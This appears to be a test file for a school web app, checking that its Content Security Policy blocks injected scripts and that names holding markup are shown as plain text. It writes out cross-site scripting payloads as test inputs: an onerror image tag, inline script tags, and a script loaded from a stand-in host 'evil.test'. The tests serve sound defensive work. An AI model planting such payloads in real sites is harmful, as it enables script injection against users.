import { expect, test } from 'vitest';
import { useOwnSchool } from '../src/test-school.ts';
import { useVisits } from '../src/visits.ts';

const { signedIn } = useVisits();
const ownSchool = useOwnSchool();

/** What an attacker who gets markup into the page would try. */
const PLANTED = {
  'an inline script':
    "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
  'a handler in an attribute':
    'document.body.insertAdjacentHTML(\'beforeend\', \'<img src="data:," onerror="window.ran = 1">\')',
  'a script of another site':
    "const s = document.createElement('script'); s.src = 'https://evil.test/x.js'; document.body.append(s)",
  'another base for every address':
    "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.test/\">')",
} as const;

test('what is planted in the page does not run, and is reported', async () => {
  const visit = await signedIn('lincoln');
  const { page } = visit;
  for (const [what, plant] of Object.entries(PLANTED)) {
    const reported = page.waitForResponse((answer) => answer.url().endsWith('/api/csp-report'));
    await page.evaluate(plant);
    expect([what, (await reported).status()]).toEqual([what, 204]);
  }
  expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
  expect(await page.evaluate(() => document.baseURI)).not.toContain('evil');
  // The browser's own words on each; every other test fails where its page has any of them.
  const said = () => visit.errors.filter((error) => error.includes('Content Security Policy'));
  await expect.poll(() => said().length).toBeGreaterThanOrEqual(Object.keys(PLANTED).length);
  expect(said()).toEqual(visit.errors);
  visit.errors.length = 0;
});

test('markup in the names of a school is shown as text on its screens', async () => {
  const { account } = ownSchool();
  const visit = await signedIn(account);
  const markup = '<img src=x onerror="window.ran = 1"><script>window.ran = 1</script>';
  const made = await visit.context.request.post('/api/opponents', {
    data: {
      schoolName: markup,
      managerName: markup,
      email: 'office@evil.test',
      phone: '5551234567',
    },
  });
  expect(made.status()).toBe(201);
  await visit.page.goto('/opponents');
  await visit.page.getByText(markup, { exact: true }).first().waitFor();
  expect(await visit.page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
});

test('text cannot be made code', async () => {
  const visit = await signedIn('lincoln');
  // Later, when the debugger that is allowed to is done.
  const refused = await visit.page.evaluate(
    () =>
      new Promise((done) => {
        setTimeout(() => {
          try {
            // oxlint-disable-next-line typescript/no-implied-eval -- what must not work
            done(String(new Function('return 1')()));
          } catch (error) {
            done(error instanceof Error ? error.name : 'thrown');
          }
        });
      }),
  );
  expect(refused).toBe('EvalError');
  visit.errors.length = 0;
});
